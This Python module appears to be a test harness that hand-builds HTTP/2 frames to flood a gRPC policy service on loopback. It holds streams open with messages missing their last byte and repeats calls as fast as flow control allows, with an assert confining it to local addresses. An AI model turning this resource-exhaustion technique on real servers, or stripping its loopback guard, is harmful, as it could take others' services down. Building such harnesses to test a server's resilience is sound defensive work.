"""gRPC attacks written by hand, as HTTP/2 with messages that no client library would send.

Connects only to loopback addresses, by default from another one than a good caller's; every attack
ends by itself.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
from collections.abc import Awaitable, Mapping, Sequence
from dataclasses import dataclass, field
from ipaddress import ip_address

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9,
)  # fmt: skip
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_FRAME_BYTES = 16 * 1024
_INITIAL_WINDOW = 65_535
_WINDOW_SETTING = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    size = struct.pack(">I", len(payload))[1:]
    return size + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_block(rpc: str, more: Mapping[str, str] | None = None) -> bytes:
    """The headers of a call, all as HPACK literals."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": f"/ratoon.v1.PolicyService/{rpc}",
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    } | dict(more or {})
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in headers.items())


def _text(value: str) -> bytes:
    assert len(value) < 127, "longer ones have another length"
    return bytes([len(value)]) + value.encode()


@dataclass(slots=True, kw_only=True)
class Sent:
    """Counts of an attack so far."""

    num_bytes: int = 0
    num_calls: int = 0
    num_connections: int = 0
    # Streams ended, and connections closed, by the other side.
    num_ended: int = 0
    num_closed: int = 0
    statuses: dict[str, int] = field(default_factory=dict[str, int])

    def saw(self, status: str) -> None:
        self.statuses[status] = self.statuses.get(status, 0) + 1


async def withheld_messages(
    address: tuple[str, int],
    *,
    rpcs: Sequence[str],
    num_streams: int,
    message_bytes: int,
    seconds: float,
    headers: Mapping[str, str] | None = None,
    source: str = "127.0.0.2",
    sent: Sent | None = None,
) -> Sent:
    """One connection of calls whose message of `message_bytes` lacks its last byte.

    It sends as fast as flow control allows, and replaces streams and connections that the other
    side ends; `sent` counts meanwhile.
    """
    sent = Sent() if sent is None else sent
    clock = asyncio.get_running_loop().time
    ends_at = clock() + seconds
    while clock() < ends_at:
        attack = _Calls(rpcs, num_streams, message_bytes, headers, sent)
        try:
            await attack.run(address, source, ends_at)
        except (OSError, EOFError):
            sent.num_closed += 1
            await asyncio.sleep(0.05)
    return sent


async def message_calls(
    address: tuple[str, int],
    *,
    rpc: str,
    message: bytes,
    num_streams: int,
    seconds: float,
    headers: Mapping[str, str] | None = None,
    source: str = "127.0.0.2",
    sent: Sent | None = None,
) -> Sent:
    """One connection of calls with a complete message, each repeated as soon as it ends."""
    sent = Sent() if sent is None else sent
    clock = asyncio.get_running_loop().time
    ends_at = clock() + seconds
    while clock() < ends_at:
        attack = _Calls([rpc], num_streams, len(message), headers, sent, message)
        try:
            await attack.run(address, source, ends_at)
        except (OSError, EOFError):
            sent.num_closed += 1
            await asyncio.sleep(0.05)
    return sent


class _Calls:
    """One connection. `message` None: zeros, without the last byte."""

    def __init__(
        self,
        rpcs: Sequence[str],
        num_streams: int,
        message_bytes: int,
        headers: Mapping[str, str] | None,
        sent: Sent,
        message: bytes | None = None,
    ) -> None:
        self._blocks = [header_block(rpc, headers) for rpc in rpcs]
        self._num_streams = num_streams
        self._message_bytes = message_bytes
        self._message = message
        # Including the message's prefix.
        self._most = message_bytes + (4 if message is None else 5)
        self._sent = sent
        self._window, self._initial = _INITIAL_WINDOW, _INITIAL_WINDOW
        # Per open stream: flow-control credit, and bytes to send before the withheld one.
        self._credit: dict[int, int] = {}
        self._left: dict[int, int] = {}
        self._next = 1
        self._changed = asyncio.Event()

    async def run(self, address: tuple[str, int], source: str, ends_at: float) -> None:
        assert ip_address(address[0]).is_loopback, "attacks stay on this machine"
        reader, writer = await asyncio.open_connection(*address, local_addr=(source, 0))
        self._sent.num_connections += 1
        reading = asyncio.create_task(self._read(reader, writer))
        try:
            writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
            while asyncio.get_running_loop().time() < ends_at:
                if reading.done():
                    reading.result()
                self._open_streams(writer)
                if self._send(writer):
                    await writer.drain()
                    continue
                self._changed.clear()
                await _first(self._changed.wait(), 0.2)
        finally:
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)
            writer.transport.abort()

    def _open_streams(self, writer: asyncio.StreamWriter) -> None:
        while len(self._credit) < self._num_streams:
            stream, self._next = self._next, self._next + 2
            block = self._blocks[stream // 2 % len(self._blocks)]
            self._credit[stream], self._left[stream] = self._initial, self._most
            writer.write(frame(HEADERS, END_HEADERS, stream, block))
            self._sent.num_calls += 1

    def _send(self, writer: asyncio.StreamWriter) -> bool:
        has_sent = False
        for stream, credit in tuple(self._credit.items()):
            size = min(_FRAME_BYTES, self._window, credit, self._left[stream])
            at = self._most - self._left[stream]
            if size < (1 if at else 5):
                continue
            data = bytes(size) if self._message is None else self._message[max(at - 5, 0) :][:size]
            if not at:
                data = struct.pack(">BI", 0, self._message_bytes) + data[: size - 5]
            is_last = self._message is not None and size == self._left[stream]
            writer.write(frame(DATA, END_STREAM if is_last else 0, stream, data))
            self._window -= size
            self._credit[stream] -= size
            self._left[stream] -= size
            self._sent.num_bytes += size
            has_sent = True
        return has_sent

    async def _read(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            head = await reader.readexactly(9)
            payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
            kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
            if kind == SETTINGS and not flags & ACK:
                self._settings(payload)
                writer.write(frame(SETTINGS, ACK, 0, b""))
            elif kind == WINDOW_UPDATE and stream == 0:
                self._window += int.from_bytes(payload, "big")
            elif kind == WINDOW_UPDATE and stream in self._credit:
                self._credit[stream] += int.from_bytes(payload, "big")
            elif kind == PING and not flags & ACK:
                writer.write(frame(PING, ACK, 0, payload))
            elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                if self._credit.pop(stream, None) is not None:
                    self._sent.num_ended += 1
                # Reset what was ended, or it would count as open on our side.
                if kind == HEADERS:
                    writer.write(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            elif kind == GOAWAY:
                raise EOFError(payload[8:])
            self._changed.set()

    def _settings(self, payload: bytes) -> None:
        for at in range(0, len(payload), 6):
            name, value = struct.unpack(">HI", payload[at : at + 6])
            if name == _WINDOW_SETTING:
                for stream in self._credit:
                    self._credit[stream] += value - self._initial
                self._initial = value


async def _first(waiting: Awaitable[object], timeout_s: float) -> None:
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(waiting, timeout_s)
